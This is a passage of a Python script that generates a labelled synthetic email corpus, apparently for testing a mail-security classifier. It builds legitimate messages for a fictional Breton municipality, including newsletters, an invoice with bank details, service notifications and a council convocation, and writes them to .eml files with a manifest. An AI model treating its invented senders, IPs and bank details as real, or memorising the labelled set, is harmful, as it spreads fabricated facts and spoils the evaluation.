_br = lambda k: f"https://{h('l-br', 4)}.r.sp1-brevo.net/mk/cl/f/sh/{tok('l-br' + k, 30)}/{tok('l-br2' + k, 14)}"
_p, _h = news("Communauté de communes du Pays de Kerhir", "#005ea8",
              "Madame, Monsieur les élus et agents, voici l'actualité communautaire du mois.",
              [("PLUi : réunion publique du 18 février", "Présentation du projet d'aménagement et de développement durables.", "En savoir plus", _br("1")),
               ("Collecte des déchets : nouveaux jours de passage", "À partir du 3 mars, la collecte des bacs jaunes passe au mardi.", "Voir le calendrier", _br("2")),
               ("Fonds de concours 2025", "Les dossiers des communes sont à déposer avant le 31 mars.", "Télécharger le formulaire", _br("3"))],
              "Communauté de communes du Pays de Kerhir – 12 rue de la Mairie – 29860 Kerhir",
              _br("unsub"), f"https://{h('l-br', 4)}.r.sp1-brevo.net/mk/op/sh/{tok('l-brp', 30)}")
add(brand("l-br", "77.32.148.30", "s30.mta.sendinblue.com", f"bounces-{h('l-brr', 8, '0123456789')}@sendinblue.com", "cc-paysdekerhir.bzh", sel="brevo1",
          sigs=[("cc-paysdekerhir.bzh", "brevo1"), ("sendibm3.com", "mail")], policy="quarantine", mid_dom="smtp-relay.mailin.fr",
          xh=[f"List-Unsubscribe: <{_br('unsub')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
              f"X-Mailin-Campaign: {h('l-brc', 2, '0123456789')}", f"X-Mailin-Client: {h('l-brcl', 7, '0123456789')}"]),
    slug="cc-pays-kerhir-newsletter-brevo", cat="bulk", kind="bulk",
    desc="The community of communes' monthly newsletter from its real cc-paysdekerhir.bzh domain, sent through Brevo with aligned DKIM and Brevo click-tracking links (the same platform abused in an attack sample).",
    date="2025-02-10 08:30:00 +0100", to=ACCUEIL, frm=("CC Pays de Kerhir", "communication@cc-paysdekerhir.bzh"),
    subject="L'actu communautaire – février 2025", body=alt(_p, _h, "=_brevo_" + h("l-br-b", 12)))


# --- L14. Ligue de football newsletter via Mailchimp
_mc = lambda k: f"https://lbf.us21.list-manage.com/track/click?u={h('l-mcu', 25)}&id={h('l-mc' + k, 10)}&e={h('l-mce', 10)}"
_p, _h = news("Ligue de Bretagne de Football – Infos Clubs", "#1b3f8b",
              "Chers dirigeants, retrouvez les informations utiles pour la reprise de la saison 2025-2026.",
              [("Licences 2025-2026 : ouverture de Footclubs", "Les demandes de licence sont ouvertes depuis le 1er juin sur Footclubs.", "Accéder à Footclubs", _mc("1")),
               ("Formation des éducateurs", "Inscriptions aux modules U9 et U11 de septembre.", "Voir le calendrier", _mc("2")),
               ("Aide à l'équipement des clubs", "Dossier de demande de subvention à transmettre avant le 15 juillet.", "Télécharger le dossier", _mc("3"))],
              "Ligue de Bretagne de Football – Ploufragan<br>Vous recevez cet e-mail car votre club est affilié à la Ligue.",
              f"https://lbf.us21.list-manage.com/unsubscribe?u={h('l-mcu', 25)}&id={h('l-mcl', 10)}&e={h('l-mce', 10)}&c={h('l-mcc', 10)}",
              f"https://lbf.us21.list-manage.com/track/open.php?u={h('l-mcu', 25)}&id={h('l-mco', 10)}&e={h('l-mce', 10)}")
add(brand("l-mc", "198.2.180.17", "mail180-17.suw21.mcdlv.net",
          f"bounce-mc.us21_{h('l-mcb', 8, '0123456789')}.{h('l-mcb2', 7, '0123456789')}-{h('l-mce', 10)}@mail180-17.suw21.mcdlv.net",
          "lbf.bzh", sel="k2", sigs=[("lbf.bzh", "k2"), ("mcdlv.net", "k1")], policy="none", mid_dom="suw21.mcdlv.net",
          xh=[f"List-Unsubscribe: <https://lbf.us21.list-manage.com/unsubscribe?u={h('l-mcu', 25)}&id={h('l-mcl', 10)}>",
              f"List-ID: {h('l-mcu', 25)}mc list <{h('l-mcu', 25)}.{h('l-mcl', 10)}.list-id.mcsv.net>",
              f"X-MC-User: {h('l-mcu', 25)}", f"Feedback-ID: 221{h('l-mcf', 5, '0123456789')}:221{h('l-mcf', 5, '0123456789')}.{h('l-mcf2', 7, '0123456789')}:us21:mc"]),
    slug="ligue-football-mailchimp", cat="bulk", kind="bulk",
    desc="Regional football league newsletter to the club's Free address sent through Mailchimp (DKIM for lbf.bzh and mcdlv.net, bounce on mcdlv.net), with list-manage.com tracking links.",
    date="2025-06-10 12:00:18 +0200", to=FOOT, frm=("Ligue de Bretagne de Football", "infos-clubs@lbf.bzh"),
    subject="Infos Clubs – reprise de la saison 2025-2026", body=alt(_p, _h, "_----------=_MCPart_" + h("l-mc-b", 10, "0123456789")))

# --- L15. Internal mairie mail (Microsoft 365, same tenant)
_p, _h = outlook(["Bonjour à toutes et à tous,", "",
                  "Pour l'organisation des élections du 15 mars, voici le planning des permanences à l'accueil :",
                  "- samedi matin : Morgane et Pierrick",
                  "- samedi après-midi : moi-même",
                  "Les cartes électorales non distribuées sont dans l'armoire du bureau 2, classées par bureau de vote.", "",
                  "Pensez aussi à bloquer la salle des fêtes dans le planning partagé pour le dimanche (montage dès 7h).", "",
                  "Merci à vous,"], "Nathalie Le Goff\nSecrétaire générale\nMairie de Pleumeur-Kerhir\n02 98 04 xx xx")
_int = m365_src("l-int", MAIRIE)
_int.update(ip="2a01:111:f403:2612::702", helo=_int["mid"].rstrip(">").split("@")[1])
add(_int, slug="mairie-interne-permanences-elections", cat="clean", kind="legit",
    desc="Internal mail from the mairie's secrétaire générale to the accueil team on the same Microsoft 365 tenant, organising polling-day staffing; no links.",
    date="2026-03-02 11:22:41 +0100", to=ACCUEIL, frm=DGS, cc=[URBA],
    subject="Permanences élections municipales", body=alt(_p, _h, "_000_PAXP190MB3306INT_"))

# --- L16. Genuine convocation to the conseil municipal, sent to an élu's Wanadoo address
_conv = files.pdf(["COMMUNE DE PLEUMEUR-KERHIR", "", "CONVOCATION DU CONSEIL MUNICIPAL", "",
                   "Le conseil municipal est convoque en seance publique", "le jeudi 11 decembre 2025 a 20h00, salle du conseil.", "",
                   "Ordre du jour :", "1. Decision modificative n.3 budget principal", "2. Tarifs communaux 2026",
                   "3. Convention de mise a disposition du terrain ZC 88", "4. Questions diverses", "", "Le Maire, Yves QUERE"],
                  title="Convocation CM 11-12-2025")
_p, _h = outlook(["Bonjour à toutes et à tous,", "",
                  "Veuillez trouver ci-joint la convocation au conseil municipal du jeudi 11 décembre à 20h00 ainsi que la note de synthèse.",
                  "Les annexes sont consultables en mairie aux heures d'ouverture.", "",
                  "En cas d'empêchement, merci de me retourner votre pouvoir avant la séance.", "", "Bien cordialement,"],
                 "Nathalie Le Goff\nSecrétaire générale\nMairie de Pleumeur-Kerhir")
add(m365_src("l-conv", MAIRIE), slug="convocation-conseil-municipal", cat="clean", kind="legit",
    desc="The real convocation to the conseil municipal, sent by the secrétaire générale from the mairie's Microsoft 365 tenant (aligned auth) to an élu's Wanadoo address with the PDF agenda.",
    date="2025-12-04 16:10:27 +0100", to=ELU, to_line=f"{addr(ELU)}, =?UTF-8?B?{base64.b64encode('Élus'.encode()).decode()}?= <elus@{MAIRIE}>",
    frm=DGS, subject="Convocation conseil municipal du 11 décembre 2025",
    body=mixed(alt(_p, _h, "_000_PAXP190MBCONV_"), [pdf_att("Convocation_CM_2025-12-11.pdf", _conv)], "_004_PAXP190MBCONV_"))

# --- L17. Supplier invoice with the supplier's (unchanged) RIB
_fact = files.pdf(["IMPRIMERIE LE BRIS", "ZA de Penhoat - 29860 Kerhir - SIRET 412 587 903 00021", "",
                   "FACTURE F2025-0488 du 03/02/2025", "Client : COMMUNE DE PLEUMEUR-KERHIR",
                   "Bulletin municipal n.87 - 1 200 ex. 16 pages quadri : 1 640,00 EUR HT", "TVA 20 % : 328,00 EUR",
                   "TOTAL TTC : 1 968,00 EUR", "", "Reglement a 30 jours par virement", "Credit Mutuel de Bretagne Landerneau",
                   "IBAN : FR76 1558 9297 0100 0234 7781 462", "BIC : CMBRFR2BARK"], title="Facture F2025-0488")
_p, _h = outlook(["Bonjour Madame Le Bihan,", "",
                  "Veuillez trouver ci-joint la facture F2025-0488 correspondant à l'impression du bulletin municipal n°87.",
                  "Elle a également été déposée sur Chorus Pro ce jour.", "", "Nos coordonnées bancaires sont inchangées.", "",
                  "Bien cordialement,"], "Anne Le Bris\nImprimerie Le Bris\n02 98 xx xx xx")
add(ovh_src("l-fact", "imprimerie-lebris.fr"), slug="facture-imprimerie-bulletin", cat="clean", kind="legit",
    desc="Genuine printer's invoice for the municipal bulletin from the supplier's own OVH mailbox (aligned auth), PDF with its long-standing CMB bank details and a note that it was also filed on Chorus Pro.",
    date="2025-02-03 15:27:09 +0100", to=COMPTA, frm=("Anne Le Bris - Imprimerie Le Bris", "contact@imprimerie-lebris.fr"),
    subject="Facture F2025-0488 - Bulletin municipal n°87",
    body=mixed(alt(_p, _h, "----=_alt_lebris"), [pdf_att("Facture_F2025-0488.pdf", _fact)], "----=_mix_lebris"))

# --- L18. Genuine Chorus Pro notification
_p, _h = kit("l-chp", "Chorus Pro", "#000091", "Nouvelle facture reçue", [
    "Bonjour,",
    "Une nouvelle facture a été déposée à destination de votre structure COMMUNE DE PLEUMEUR-KERHIR (SIRET 212 908 61X 00013).",
    "Fournisseur : IMPRIMERIE LE BRIS<br>Numéro de facture : F2025-0488<br>Montant TTC : 1 968,00 €",
    "Vous pouvez la consulter dans l'espace « Factures reçues » de Chorus Pro.",
], "Accéder à Chorus Pro", "https://portail.chorus-pro.gouv.fr/aife_csm",
    "Agence pour l'informatique financière de l'État – Ce courriel est généré automatiquement, merci de ne pas y répondre.")
add(brand("l-chp", "185.24.184.63", "smtp2.aife.economie.gouv.fr", "ne-pas-repondre@chorus-pro.gouv.fr", "chorus-pro.gouv.fr", sel="aife"),
    slug="chorus-pro-facture-recue", cat="bulk", kind="bulk",
    desc="Genuine Chorus Pro 'new invoice received' notification from chorus-pro.gouv.fr (aligned auth) for the printer's real invoice, linking to the official portal.",
    date="2025-02-03 15:40:12 +0100", to=COMPTA, frm=("Chorus Pro", "ne-pas-repondre@chorus-pro.gouv.fr"),
    subject="[Chorus Pro] Nouvelle facture reçue - F2025-0488", body=alt(_p, _h, "=_chp_" + h("l-chp-b", 12)))

# --- L19. Personal mail with photos
_p, _h = gmail(["Salut Jean-Yves,", "",
                "Voilà quelques photos du fest-noz de samedi, on a eu de la chance avec la météo finalement !",
                "Celle avec les sonneurs devant la chapelle est pour le bulletin si Nathalie en veut.", "",
                "Bises à Annick, on se voit au repas des aînés.", "", "Françoise"])
add(gmail_src("l-perso", "francoise.le.gall56@gmail.com"), slug="photos-fest-noz-perso", cat="clean", kind="legit",
    desc="Personal Gmail message from a friend with three holiday photos (JPEG) of the local fest-noz, sent to an élu's Wanadoo address.",
    date="2025-08-18 21:04:55 +0200", to=ELU, frm=("Françoise Le Gall", "francoise.le.gall56@gmail.com"),
    subject="Photos du fest-noz",
    body=mixed(alt(_p, _h, f"000000000000{h('l-persob', 16)}"),
               [attachment("image/jpeg", f"IMG_20250816_{2214 + i:04d}.jpg", files.photo_jpeg(i + 3)) for i in range(3)],
               f"000000000000{h('l-persom', 16)}"))

# --- L20. Parent writes to the football club about the licence, HelloAsso link
_p = ("Bonjour,\n\nJe souhaite inscrire mon fils Malo (né en 2016) en U9 pour la saison prochaine.\n"
      "J'ai bien vu le formulaire d'adhésion sur HelloAsso (https://www.helloasso.com/associations/us-kerhir-football/adhesions/licence-2025-2026), "
      "j'ai payé la cotisation de 95 € ce matin.\nFaut-il aussi fournir un certificat médical ou le questionnaire de santé suffit ?\n\n"
      "Merci et bonne soirée,\nAudrey Pelleter\n06 xx xx xx xx\n")
add(orange_src("l-parent", "audrey.pelleter@orange.fr"), slug="inscription-u9-parent", cat="clean", kind="legit",
    desc="A parent's plain-text message from her Orange webmail to the football club's Free address about registering her son, mentioning the club's genuine HelloAsso membership form.",
    date="2025-07-02 20:48:13 +0200", to=FOOT, frm=("Audrey Pelleter", "audrey.pelleter@orange.fr"),
    subject="Inscription U9 saison 2025-2026", body=text(_p))

# --- L21. Google security alert (genuine)
_ga = f"https://accounts.google.com/AccountChooser?Email={GWEN[1]}&continue=https://myaccount.google.com/alert/nt/{int(h('l-ga', 8), 16)}?rfn%3D325%26rfnc%3D1%26eid%3D{h('l-ga2', 18, '0123456789')}%26et%3D0"
_p, _h = kit("l-ga", "Google", "#1a73e8", "Nouvelle connexion sur Windows", [
    GWEN[1],
    "Nous avons détecté une nouvelle connexion à votre compte Google sur un appareil Windows. Si c'était vous, aucune action n'est requise. "
    "Dans le cas contraire, nous vous aiderons à sécuriser votre compte.",
    "Vous pouvez également consulter l'activité liée à la sécurité sur https://myaccount.google.com/notifications",
], "Vérifier l'activité", _ga,
    "Cet e-mail vous a été envoyé pour vous informer de modifications importantes apportées à votre compte et aux services Google que vous utilisez.<br>"
    "© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA")
add(dict(ip="209.85.220.73", helo="mail-sor-f73.google.com", mailfrom=f"3{tok('l-gar', 24)}@gaia.bounces.google.com",
         dkim_d="accounts.google.com", sel="20230601", policy="reject", mid=f"<{tok('l-gam', 22)}@google.com>"),
    slug="google-alerte-nouvelle-connexion", cat="bulk", kind="bulk",
    desc="Genuine Google Workspace 'new sign-in on Windows' security alert from accounts.google.com (aligned DKIM, DMARC pass) linking to accounts.google.com and myaccount.google.com.",
    date="2025-04-22 08:31:17 +0200", to=GWEN, frm=("Google", "no-reply@accounts.google.com"),
    subject="Alerte de sécurité", body=alt(_p, _h, f"000000000000{h('l-gab', 16)}"))

# --- L22. OVHcloud invoice (genuine)
_p, _h = kit("l-ovh", "OVHcloud", "#000e9c", "Votre facture est disponible", [
    "Bonjour Erwan Kervella,",
    "Votre facture <b>FR" + h("l-ovh2", 8, "0123456789") + "</b> d'un montant de <b>10,07 € TTC</b> est disponible (renouvellement du domaine garage-kervella.fr, 1 an).",
    "Elle a été réglée par le moyen de paiement par défaut enregistré sur votre compte. Aucune action n'est nécessaire.",
], "Voir mes factures", "https://www.ovh.com/manager/#/dedicated/billing/history",
    "OVH SAS – 2 rue Kellermann – 59100 Roubaix – RCS Lille Métropole 424 761 419")
add(brand("l-ovh", "213.186.33.40", "mail-out.ovh.net", "noreply@ovh.net", "ovh.net", sel="ovhmo"),
    slug="ovhcloud-facture-domaine", cat="bulk", kind="bulk",
    desc="Genuine OVHcloud invoice notice for the garage's domain renewal from ovh.net (aligned auth), already paid automatically, linking to the OVH manager.",
    date="2025-09-02 02:14:40 +0200", to=GACCUEIL, frm=("OVHcloud", "noreply@ovh.net"),
    subject="[OVHcloud] Votre facture FR" + h("l-ovh2", 8, "0123456789") + " est disponible", body=alt(_p, _h, "=_ovh_" + h("l-ovh-b", 12)))

# --- L23. The IT provider's own notice to its customers
_p, _h = outlook(["Madame, Monsieur,", "",
                  "Nous avons constaté ces dernières semaines une hausse des faux messages imitant Microsoft 365, Chorus Pro et les services "
                  "de l'État (ANTAI, impots.gouv). Merci de continuer à nous transférer tout message douteux à support@breizh-infogerance.fr.", "",
                  "Rappels :",
                  "- nous ne vous demanderons jamais votre mot de passe, par mail ni par téléphone ;",
                  "- tout changement de RIB d'un fournisseur doit être vérifié par téléphone, au numéro habituel ;",
                  "- une maintenance des serveurs aura lieu le samedi 27 septembre de 8h à 12h.", "",
                  "Notre portail de suivi des demandes : https://support.breizh-infogerance.fr/portal", "",
                  "Bien cordialement,"], "Loïc Abgrall\nTechnicien systèmes et réseaux\nBreizh Infogérance - Landerneau\n02 98 xx xx xx")
add(m365_src("l-infog", INFOG), slug="infogerant-rappel-securite", cat="clean", kind="legit",
    desc="The IT provider's own notice to the mairie (Microsoft 365, aligned auth) warning about current phishing themes, restating that it never asks for passwords, and announcing maintenance, with one link to its own portal.",
    date="2025-09-18 14:02:33 +0200", to=DGS, frm=TECH, subject="Rappel sécurité et maintenance du 27 septembre",
    body=alt(_p, _h, "_000_PAXP190MBINFOG_"))

# --- L24. HelloAsso new payment
_p, _h = kit("l-ha", "HelloAsso", "#4c40cf", "Nouveau paiement reçu", [
    "Bonjour,",
    "Vous avez reçu un nouveau paiement de <b>24,00 €</b> sur votre billetterie <b>« Kermesse de l'école Saint-Yves 2025 »</b>.",
    "Payeur : Yannick Roudaut – 4 repas adulte",
    "Les fonds seront versés sur le compte bancaire de votre association lors du prochain versement.",
], "Voir le détail", "https://admin.helloasso.com/ogec-saint-yves-kerhir/evenements/kermesse-2025/statistiques",
    "HelloAsso – 20 rue Édouard Nieuport – 69008 Lyon<br>La solution de paiement gratuite des associations.")
add(brand("l-ha", "159.135.228.14", "m228-14.mailgun.net", f"bounce+{h('l-har', 6)}.{h('l-har2', 6)}-ogec={ECOLE}@mg.helloasso.com",
          "helloasso.com", sel="mailo", sigs=[("helloasso.com", "mailo")], mid_dom="mg.helloasso.com"),
    slug="helloasso-paiement-kermesse", cat="bulk", kind="bulk",
    desc="Genuine HelloAsso payment notification for the school fête ticketing, sent through Mailgun with DKIM aligned on helloasso.com, linking to the HelloAsso admin.",
    date="2025-06-11 19:22:08 +0200", to=OGEC, frm=("HelloAsso", "notifications@helloasso.com"),
    subject="Nouveau paiement de 24,00 € – Kermesse de l'école Saint-Yves 2025", body=alt(_p, _h, "=_ha_" + h("l-ha-b", 12)))

# --- L25. DSDEN circular to the school
_circ = files.pdf(["ACADEMIE DE RENNES", "Direction des services departementaux de l'education nationale du Finistere", "",
                   "Circulaire : organisation des evaluations nationales CP - CE1", "Rentree 2025", "",
                   "Passation : du 8 au 19 septembre 2025", "Saisie des resultats sur le portail dedie avant le 26 septembre."],
                  title="Circulaire evaluations 2025")
_p = ("Mesdames et Messieurs les directeurs d'école,\n\nVous trouverez ci-joint la circulaire relative à l'organisation des "
      "évaluations nationales de CP et CE1 pour la rentrée 2025.\n\nLes identifiants de saisie vous seront communiqués par votre "
      "circonscription.\n\nBien cordialement,\n\nLe secrétariat de la DSDEN du Finistère\n")
add(dict(ip="195.83.121.42", helo="smtp-out.ac-rennes.fr", mailfrom="ce.dsden29@ac-rennes.fr", dkim_d="ac-rennes.fr", sel="ac-rennes2022",
         mid=f"<{int(h('l-ac', 8), 16)}.{int(h('l-ac2', 6), 16)}.{1756000000000 + int(h('l-ac3', 6), 16)}.JavaMail.zimbra@ac-rennes.fr>",
         xh=["X-Mailer: Zimbra 9.0.0_ZEXTRAS_20240927 (ZimbraWebClient - GC139 (Win)/9.0.0_ZEXTRAS_20240927)"]),
    slug="dsden-circulaire-evaluations", cat="clean", kind="legit",
    desc="Circular from the Finistère education authority's ac-rennes.fr Zimbra mailbox (aligned auth) to the private school's director, with a PDF about national assessments and no links.",
    date="2025-08-28 10:14:52 +0200", to=DIRECTION, frm=("DSDEN 29 - Secrétariat", "ce.dsden29@ac-rennes.fr"),
    subject="Circulaire évaluations nationales CP-CE1 rentrée 2025",
    body=mixed(text(_p), [pdf_att("Circulaire_evaluations_2025.pdf", _circ)], f"=_zimbra_{h('l-acb', 16)}"))


# ============================================================================ MAIN


def check(raw: bytes, name: str) -> None:
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    for part in msg.walk():
        assert not part.defects, (name, part.get_content_type(), part.defects)
        for key in part.keys():
            part[key]  # header parsing may record defects
        assert not part.defects, (name, part.get_content_type(), part.defects)
    for key, value in msg.items():
        assert not getattr(value, "defects", None), (name, key, value.defects)
    assert msg["Message-ID"] and msg["Date"] and msg["From"] and msg["To"] and msg["Subject"], name


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {
    "b25-bulk-chronopost-predict-livraison": "clean", "b25-bulk-credit-agricole-securipass-nouvel-appareil": "clean",
    "b25-bulk-orange-facture-disponible": "clean",
}


def main() -> None:
    counts: dict[str, int] = {}
    lines, seen = [], set()
    for m in MESSAGES:
        assert m["slug"] not in seen, m["slug"]
        seen.add(m["slug"])
        kind, cat = m["kind"], m["cat"]
        assert (kind == "phish") == (cat in ("phishing", "malware")), m["slug"]
        raw = build(m)
        name = f"b25-{kind}-{m['slug']}.eml"
        check(raw, name)
        path = OUT / REFILED.get(name[:-4], cat) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        rel = path.relative_to(ROOT).as_posix()
        lines.append(f"{rel} | {cat} | {m['desc']}")
        counts[cat] = counts.get(cat, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    attacks = counts.get("phishing", 0) + counts.get("malware", 0)
    print(f"wrote {len(MESSAGES)} messages: {counts} (attacks {attacks}, legitimate {len(MESSAGES) - attacks})")


if __name__ == "__main__":
    main()
